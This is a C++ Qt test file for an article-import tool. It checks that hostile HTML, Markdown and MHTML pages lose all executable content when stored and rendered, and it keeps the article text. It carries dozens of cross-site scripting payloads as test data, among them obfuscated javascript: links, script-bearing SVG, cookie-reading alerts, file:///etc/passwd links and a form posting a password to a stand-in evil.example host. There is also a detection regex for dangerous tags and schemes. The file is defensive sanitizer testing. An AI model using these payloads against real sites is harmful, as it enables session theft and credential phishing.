#include "import/importer.h"
#include "import/prepare.h"
#include "markdown/plaintext.h"
#include "render/bodyhtml.h"

#include <QFile>
#include <QRegularExpression>
#include <QTemporaryDir>
#include <QTest>

using namespace offprint;

// Hostile page content: whatever a page carries (scripts, handlers, dangerous URLs, frames, forms,
// remote styles and fonts), the stored Markdown and the HTML rendered from it keep none of it.
// Each case goes through the real import pipeline (prepareFile on a file on disk) and then through
// markdown::toHtml, the renderer the reader uses.
class TestHostile final : public QObject
{
    Q_OBJECT

private slots:
    void nothingExecutableSurvives_data();
    void nothingExecutableSurvives();
    void checkerCatchesWhatItLooksFor();

private:
    QTemporaryDir m_dir;
};

namespace {

// A distinctive phrase every hostile page carries in its article text: a page that loses it was
// "made safe" by throwing the article away, which is not the safe result we want.
const QByteArray kKeyword = "photolithography yield";

QByteArray englishArticle(const QByteArray &inject)
{
    return "<h1>Chip makers report record photolithography yield</h1>\n"
           "<p>The quarterly report from the foundry shows that photolithography yield on the newest process node "
           "rose for the third quarter in a row, after engineers changed the exposure recipe and the resist "
           "chemistry used on the critical layers.</p>\n"
        + inject
        + "\n<p>Analysts said the improvement matters more than the headline capacity numbers, because every "
          "wafer that passes inspection lowers the cost of each chip, and the customers who design accelerators "
          "for data centres are the first to benefit from the better numbers.</p>\n"
          "<p>The company expects the next generation of scanners to arrive in the second half of the year, "
          "and it plans to move two more product lines to the process before the end of the year.</p>\n";
}

QByteArray htmlPage(const QByteArray &inject, const QByteArray &head = {}, const QByteArray &bodyAttributes = {})
{
    return "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"utf-8\">\n"
           "<title>Chip makers report record photolithography yield</title>\n"
        + head + "\n</head>\n<body" + bodyAttributes + "><main><article>\n" + englishArticle(inject)
        + "</article></main></body></html>\n";
}

QByteArray markdownClip(const QByteArray &inject)
{
    return "---\ntitle: Chip makers report record photolithography yield\nsource: https://news.example.com/chips\n"
           "tags: [chips, hostile]\n---\n\n"
           "The quarterly report shows that photolithography yield rose for the third quarter in a row.\n\n"
        + inject + "\n\nAnalysts said the improvement matters more than the headline capacity numbers.\n";
}

QByteArray mhtmlArchive(const QByteArray &html, const QByteArray &extraPart)
{
    QByteArray out = "From: <Saved by Blink>\r\nSnapshot-Content-Location: https://news.example.com/chips\r\n"
                     "Subject: Chip makers report record photolithography yield\r\nMIME-Version: 1.0\r\n"
                     "Content-Type: multipart/related; type=\"text/html\"; boundary=\"----B0undary----\"\r\n\r\n"
                     "------B0undary----\r\nContent-Type: text/html; charset=\"utf-8\"\r\n"
                     "Content-Transfer-Encoding: 8bit\r\nContent-Location: https://news.example.com/chips\r\n\r\n";
    out += html;
    out += "\r\n------B0undary----\r\n";
    out += extraPart;
    out += "\r\n------B0undary------\r\n";
    return out;
}

// Why `html` (rendered output) or `markdown` is unsafe, or an empty string when it is safe. The
// Markdown of a clip is the user's own file, stored as written: only its rendering must be safe.
QString unsafeReason(const QString &markdown, const QString &html, bool checkMarkdown = true)
{
    static const QRegularExpression activeTag(
        QStringLiteral("<\\s*/?\\s*(script|iframe|frame|frameset|object|embed|applet|form|input|button|textarea|"
                       "select|link|style|meta|base|svg|math|video|audio|source|track|noscript|template|portal|"
                       "marquee|isindex)\\b"),
        QRegularExpression::CaseInsensitiveOption);
    static const QRegularExpression handler(QStringLiteral("<[^>]*\\son[a-z]+\\s*="),
                                            QRegularExpression::CaseInsensitiveOption);
    static const QRegularExpression urlAttribute(
        QStringLiteral("\\s(src|href|poster|srcset|action|formaction|background|data|xlink:href|srcdoc)\\s*=\\s*\"([^\"]*)\""),
        QRegularExpression::CaseInsensitiveOption);
    static const QRegularExpression cssFetch(QStringLiteral("url\\s*\\(|@import|expression\\s*\\("),
                                             QRegularExpression::CaseInsensitiveOption);
    // Link and image destinations, inline (](dest) and autolinks (<scheme:...>).
    static const QRegularExpression markdownTarget(QStringLiteral("\\]\\(\\s*<?([^)>\\s]*)|<([a-z][a-z0-9+.-]*:[^>\\s]*)>"),
                                                   QRegularExpression::CaseInsensitiveOption);
    static const QRegularExpression allowedScheme(QStringLiteral("^(https?:|mailto:|#|blobs/|[^:]*$)"));

    if (const auto m = activeTag.match(html); m.hasMatch())
        return QStringLiteral("active element <%1> in the rendered HTML").arg(m.captured(1));
    if (const auto m = handler.match(html); m.hasMatch())
        return QStringLiteral("event handler in the rendered HTML: %1").arg(m.captured(0));
    if (checkMarkdown) {
        for (auto it = markdownTarget.globalMatch(markdown); it.hasNext();) {
            const auto m = it.next();
            QString target = m.captured(1).isEmpty() ? m.captured(2) : m.captured(1);
            target.removeIf([](QChar c) { return c.unicode() <= 0x20; });
            if (!allowedScheme.match(target.toLower()).hasMatch())
                return QStringLiteral("dangerous link target in the Markdown: %1").arg(target);
        }
    }
    if (html.contains(QLatin1String(" style="), Qt::CaseInsensitive))
        return QStringLiteral("style attribute in the rendered HTML");
    if (const auto m = cssFetch.match(html); m.hasMatch() && !html.contains(QLatin1String("<code")))
        return QStringLiteral("CSS that fetches in the rendered HTML: %1").arg(m.captured(0));
    for (auto it = urlAttribute.globalMatch(html); it.hasNext();) {
        const auto m = it.next();
        const QString name = m.captured(1).toLower();
        const QString value = m.captured(2).trimmed();
        const QString lower = value.toLower();
        if (name != QLatin1String("src") && name != QLatin1String("href"))
            return QStringLiteral("attribute %1=\"%2\" in the rendered HTML").arg(name, value);
        if (value.isEmpty() || lower.startsWith(QLatin1String("https://")) || lower.startsWith(QLatin1String("http://")))
            continue;
        if (name == QLatin1String("href") && (lower.startsWith(QLatin1Char('#')) || lower.startsWith(QLatin1String("mailto:"))))
            continue;
        // A relative link (no scheme) is inert: the reader opens only http(s) links, in the browser.
        static const QRegularExpression scheme(QStringLiteral("^[a-z][a-z0-9+.-]*:"));
        if (name == QLatin1String("href") && !scheme.match(lower).hasMatch() && !lower.startsWith(QLatin1String("//")))
            continue;
        // A stored asset: the library's own content-addressed blobs, nothing else on disk.
        static const QRegularExpression blob(QStringLiteral("^blobs/[0-9a-f]{2}/[0-9a-f]{64}(\\.[a-z0-9]+)?$"));
        if (name == QLatin1String("src") && blob.match(value).hasMatch())
            continue;
        return QStringLiteral("%1=\"%2\" in the rendered HTML is neither a web link nor a stored asset").arg(name, value);
    }
    return {};
}

} // namespace

void TestHostile::nothingExecutableSurvives_data()
{
    QTest::addColumn<QString>("fileName");
    QTest::addColumn<QByteArray>("bytes");

    const auto html = [](const char *name, const QByteArray &inject, const QByteArray &head = {},
                         const QByteArray &body = {}) {
        QTest::newRow(name) << QStringLiteral("%1.html").arg(QLatin1String(name)) << htmlPage(inject, head, body);
    };
    html("inline-script", "<script>document.write('<img src=https://evil.example/p.gif>')</script>");
    html("external-script", "<script src=\"https://evil.example/x.js\"></script>");
    html("module-script-uppercase", "<SCRIPT type=module>import('https://evil.example/m.js')</SCRIPT>");
    html("script-in-head", {}, "<script>fetch('https://evil.example/beacon')</script>");
    html("noscript-with-script", "<noscript><script>alert(1)</script><p>Enable scripts.</p></noscript>");
    html("onclick-paragraph", "<p onclick=\"alert(1)\" ondblclick='alert(2)'>Readers can click on this paragraph "
                              "to see more about the photolithography yield data.</p>");
    html("onerror-image", "<p><img src=\"missing.png\" onerror=\"alert(1)\" alt=\"wafer map\"></p>");
    html("onload-body", {}, {}, " onload=\"alert(1)\" onunload=\"alert(2)\"");
    html("onmouseover-link", "<p>See the <a href=\"https://example.org/report\" onmouseover=\"alert(1)\">full "
                             "report</a> for details.</p>");
    html("javascript-link", "<p>See <a href=\"javascript:alert(document.cookie)\">the details</a> here.</p>");
    html("javascript-link-case-space", "<p>See <a href=\"  JaVaScRiPt:alert(1)\">the details</a> here.</p>");
    html("javascript-link-entities", "<p>See <a href=\"&#106;avascript&#58;alert(1)\">the details</a> here.</p>");
    html("javascript-link-tab", "<p>See <a href=\"java&#x09;script:alert(1)\">the details</a> here.</p>");
    html("javascript-link-controls", "<p>See <a href=\"&#x01;&#x0B;java&#x0A;scr&#x0D;ipt&#x09;:alert(1)\">the "
                                     "details</a> here.</p>");
    html("vbscript-link", "<p>See <a href=\"vbscript:msgbox(1)\">the details</a> here.</p>");
    html("data-html-link", "<p>See <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">the "
                           "details</a> here.</p>");
    html("data-svg-image-with-script",
         "<p><img alt=\"diagram\" src=\"data:image/svg+xml;base64,"
             + QByteArray("<svg xmlns='http://www.w3.org/2000/svg' width='400' height='300' onload='alert(1)'>"
                          "<script>alert(2)</script><rect width='400' height='300'/></svg>")
                   .toBase64()
             + "\"></p>");
    html("iframe-remote", "<iframe src=\"https://evil.example/frame\" width=600 height=400></iframe>");
    html("iframe-srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>");
    html("object-embed-applet", "<object data=\"https://evil.example/x.swf\"><param name=movie value=x.swf></object>"
                                "<embed src=\"https://evil.example/y.swf\"><applet code=Evil.class></applet>");
    html("form-controls", "<form action=\"https://evil.example/steal\" method=post><input name=pw type=password>"
                          "<button formaction=\"javascript:alert(1)\">Go</button><textarea>x</textarea></form>");
    html("remote-stylesheet", {}, "<link rel=stylesheet href=\"https://evil.example/s.css\">"
                                  "<link rel=preload as=font href=\"https://evil.example/f.woff2\">");
    html("style-import-font", "<style>@import url(https://evil.example/a.css); @font-face{font-family:x;"
                              "src:url(https://evil.example/f.woff2)}</style>");
    html("style-attribute-background", "<p style=\"background:url(https://evil.example/bg.png)\">The chart below "
                                       "shows how the photolithography yield changed.</p>");
    html("css-expression", "<div style=\"width:expression(alert(1))\"><p>Another paragraph of the report.</p></div>");
    html("meta-refresh", {}, "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">");
    html("base-javascript", "<p>Read <a href=\"next-page.html\">the next page</a>.</p>",
         "<base href=\"javascript:alert(1)//\">");
    html("svg-inline-script", "<svg onload=\"alert(1)\"><script>alert(2)</script><a xlink:href=\"javascript:alert(3)\">"
                              "<text>x</text></a></svg>");
    html("math-xlink", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">CLICK</maction></math>");
    html("srcset-javascript", "<p><img srcset=\"javascript:alert(1) 1x, https://example.org/a.png 2x\" alt=\"chart\"></p>");
    html("lazy-data-src-javascript", "<p><img data-src=\"javascript:alert(1)\" "
                                     "src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" alt=\"lazy\"></p>");
    html("video-audio", "<video src=\"https://evil.example/v.mp4\" poster=\"https://evil.example/p.jpg\" autoplay>"
                        "</video><audio src=\"https://evil.example/a.mp3\"><source src=\"https://evil.example/b.ogg\">"
                        "<track src=\"https://evil.example/t.vtt\"></audio>");
    html("template-portal", "<template><script>alert(1)</script></template><portal src=\"https://evil.example\"></portal>");
    html("file-url-link", "<p>Compare <a href=\"file:///etc/passwd\">the local copy</a>.</p>");
    html("escaped-script-as-code", "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>");
    html("unterminated-attribute", "<p>Broken <img src='https://evil.example/?q=<p>after</p>");

    QTest::newRow("markdown-raw-html")
        << QStringLiteral("markdown-raw-html.md")
        << markdownClip("<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<iframe "
                        "src=\"https://evil.example\"></iframe>\n\n<div onclick=\"alert(1)\">box</div>");
    QTest::newRow("markdown-script-links")
        << QStringLiteral("markdown-script-links.md")
        << markdownClip("[click](javascript:alert(1)) and [data](data:text/html,<script>alert(1)</script>) and "
                        "<javascript:alert(1)> and ![img](vbscript:x) and [file](file:///etc/passwd)");
    QTest::newRow("mhtml-script-part")
        << QStringLiteral("mhtml-script-part.mhtml")
        << mhtmlArchive(htmlPage("<script src=\"https://news.example.com/app.js\"></script>"
                                 "<p onclick=\"alert(1)\">Clickable paragraph in the archive.</p>"),
                        "Content-Type: application/javascript\r\nContent-Location: https://news.example.com/app.js\r\n"
                        "\r\nalert(document.cookie)");
    QTest::newRow("singlefile-script")
        << QStringLiteral("singlefile-script.html")
        << QByteArray("<!DOCTYPE html> <html lang=\"en\"><!--\n Page saved with SingleFile \n url: "
                      "https://news.example.com/chips \n saved date: Mon Mar 04 2024 10:00:00 GMT+0800\n-->"
                      "<head><meta charset=\"utf-8\"><title>Chip makers report record photolithography yield</title>"
                      "<script>alert(1)</script></head><body onload=\"alert(2)\"><article>")
            + englishArticle("<a href=\"javascript:alert(3)\">more</a><iframe src=\"https://evil.example\"></iframe>")
            + "</article></body></html>";
}

void TestHostile::nothingExecutableSurvives()
{
    QFETCH(QString, fileName);
    QFETCH(QByteArray, bytes);
    QVERIFY(m_dir.isValid());
    const QString path = m_dir.filePath(fileName);
    {
        QFile file(path);
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(bytes);
    }
    const auto prepared = import::prepareFile(path);
    QVERIFY2(prepared, prepared ? "" : qPrintable(prepared.error().message()));
    const QString markdown = prepared->article.markdown;
    const QString html = render::bodyHtml(markdown);
    const QString reason = unsafeReason(markdown, html, prepared->article.sourceFormat != QLatin1String("markdown"));
    QVERIFY2(reason.isEmpty(), qPrintable(reason + QStringLiteral("\n--- Markdown:\n") + markdown));
    // Safe by keeping the article, not by dropping it.
    QVERIFY2(markdown.contains(QString::fromLatin1(kKeyword)), qPrintable(markdown));
    // Script source is never taken for article text (a clip's own words and a page's code sample are).
    if (!fileName.endsWith(QLatin1String(".md")) && !fileName.startsWith(QLatin1String("escaped")))
        QVERIFY2(!prepared->text.contains(QLatin1String("alert(")), qPrintable(prepared->text));
    for (const import::Asset &asset : prepared->assets)
        QVERIFY2(!asset.data.contains("<script") || asset.extension == QLatin1String("svg"),
                 qPrintable(asset.relativePath));
}

// The checker itself must flag what it is meant to flag, or the test above proves nothing.
void TestHostile::checkerCatchesWhatItLooksFor()
{
    const QString md = QStringLiteral("text");
    QVERIFY(!unsafeReason(md, QStringLiteral("<p>x <script>alert(1)</script></p>")).isEmpty());
    QVERIFY(!unsafeReason(md, QStringLiteral("<p onclick=\"x\">y</p>")).isEmpty());
    QVERIFY(!unsafeReason(md, QStringLiteral("<a href=\"javascript:alert(1)\">y</a>")).isEmpty());
    QVERIFY(!unsafeReason(md, QStringLiteral("<img src=\"file:///etc/passwd\" />")).isEmpty());
    QVERIFY(!unsafeReason(md, QStringLiteral("<img src=\"../../etc/passwd\" />")).isEmpty());
    QVERIFY(!unsafeReason(md, QStringLiteral("<a href=\"file:///etc/passwd\">x</a>")).isEmpty());
    QVERIFY(!unsafeReason(md, QStringLiteral("<iframe src=\"https://x\"></iframe>")).isEmpty());
    QVERIFY(!unsafeReason(QStringLiteral("[a](javascript:x)"), QStringLiteral("<p>a</p>")).isEmpty());
    QVERIFY(!unsafeReason(md, QStringLiteral("<p><video poster=\"https://x/p.jpg\"></video></p>")).isEmpty());
    QVERIFY(unsafeReason(md, QStringLiteral("<p><a href=\"https://example.org/\">ok</a> <img src=\"blobs/ab/"
                                            "ab00000000000000000000000000000000000000000000000000000000000000.png\" "
                                            "alt=\"\" /></p>"))
                .isEmpty());
}

QTEST_GUILESS_MAIN(TestHostile)
#include "tst_hostile.moc"
